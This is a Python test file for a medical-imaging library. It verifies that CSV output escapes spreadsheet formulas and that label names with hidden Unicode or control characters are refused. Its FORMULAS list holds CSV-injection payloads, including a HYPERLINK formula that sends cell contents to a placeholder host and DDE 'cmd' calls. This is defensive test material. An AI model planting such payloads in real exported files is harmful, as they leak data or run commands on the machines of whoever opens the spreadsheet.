"""No cell that we write is a formula, and no name that is read hides a letter."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanlearn.config.segmentation import ClassConfig
from scanlearn.errors import BadLabels
from scanlearn.letters import hidden_letter, without_hidden
from scanlearn.scans.tables.cells import as_written, harmless
from scanlearn.scans.tables.finding_table import Finding, read_findings, write_findings
from scanlearn.scans.tables.label_tables import read_table, write_table
from scanlearn.scans.tables.results import MARK, read_results, write_results
from scanlearn.tasks.classification.labels import ImageLabels
from scanlearn.tasks.outcome.labels import OutcomeSet
from scanlearn.tasks.shared.label_set import LabelSet
from scanlearn.tasks.texture.labels import PlaceSet

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]
STARTS = tuple("=+-@\t\r＝＋－＠")
HIDDEN = [
    "a\u202eb",
    "a\u2066b",
    "a\u200bb",
    "a\x1b[31mb",
    "a\x00b",
    "a\x85b",
    "a\ufeffb",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_result_is_never_a_formula(tmp_path: Path, formula: str) -> None:
    rows = [{"scan": formula, formula: 1.5, "ml": -2.5}]
    write_results(tmp_path / "a.csv", ["scan", formula, "ml"], rows)
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))
    for cell in (cells[0][0], cells[0][1], cells[1][0]):
        assert not cell.lstrip(" \n").startswith(STARTS)
    assert cells[1][2] == "-2.5"
    assert cells[0][-1] == MARK
    (read,) = read_results(tmp_path / "a.csv", ["scan", formula, "ml"])
    assert read == {"scan": formula, formula: "1.5", "ml": "-2.5"}


def test_a_class_of_findings_is_never_a_formula(tmp_path: Path) -> None:
    found = [Finding(0.5, (-1.0, 2.0, 3.0), 4.0, "=1+1")]
    write_findings(tmp_path / "a.csv", found)
    assert ",=1+1" not in (tmp_path / "a.csv").read_text()
    assert list(read_findings(tmp_path / "a.csv")) == found


def test_a_table_is_never_a_formula(tmp_path: Path) -> None:
    write_table(tmp_path / "a.csv", pd.DataFrame({"=x": ["=y", "z"], "n": [-1, 2]}))
    assert (tmp_path / "a.csv").read_text() == "'=x,n\n'=y,-1\nz,2\n"


@given(st.text())
def test_what_is_written_is_read_back(text: str) -> None:
    assert as_written(harmless(text)) == text
    number = text
    try:
        float(number)
    except ValueError:
        assert not harmless(text).lstrip(" \n").startswith(STARTS)


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(number: float) -> None:
    assert harmless(str(number)) == str(number)


@pytest.mark.parametrize("name", HIDDEN)
def test_a_name_that_hides_a_letter_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match=r"U\+[0-9A-F]{4}, which is not seen"):
        ClassConfig(value=1, name=name)
    with pytest.raises(BadLabels, match="which is not seen"):
        LabelSet((), {1: name})
    with pytest.raises(BadLabels, match="which is not seen"):
        ImageLabels(("a", name), several=False, items=())
    with pytest.raises(BadLabels, match="which is not seen"):
        PlaceSet((), {1: name})
    with pytest.raises(BadLabels, match="which is not seen"):
        OutcomeSet("classes", "x", ("a", name), (), ())
    if "\x00" in name:
        return  # a table with such a letter is no text at all
    (tmp_path / "a.nii").touch()
    for column in ("label", "patient"):
        table = f'path,label,patient\na.nii,x,y\na.nii,"{name}",y\n'
        if column == "patient":
            table = table.replace(f'"{name}",y', f'x,"{name}"')
        (tmp_path / "a.csv").write_text(table, encoding="utf-8")
        with pytest.raises(BadLabels, match=f"row 3: {column} holds U"):
            read_table(tmp_path / "a.csv")
    (tmp_path / "a.csv").write_text(f'path,"{name}"\na.nii,1\n', encoding="utf-8")
    with pytest.raises(BadLabels, match="in its name, which is not seen"):
        read_table(tmp_path / "a.csv")


@pytest.mark.parametrize(
    "name",
    ["nodule", "Lungenrundherd, groß", "肺结节", "گره‌ها", "nœud – 3 mm", "-", "=1"],
)
def test_names_of_all_languages_are_taken(name: str) -> None:
    """Also with the joiner that Persian words are spelled with."""
    assert ClassConfig(value=1, name=name).name == name
    assert hidden_letter(name) == ""


@given(st.text())
def test_a_text_without_hidden_letters_hides_none(text: str) -> None:
    assert hidden_letter(without_hidden(text)) == ""
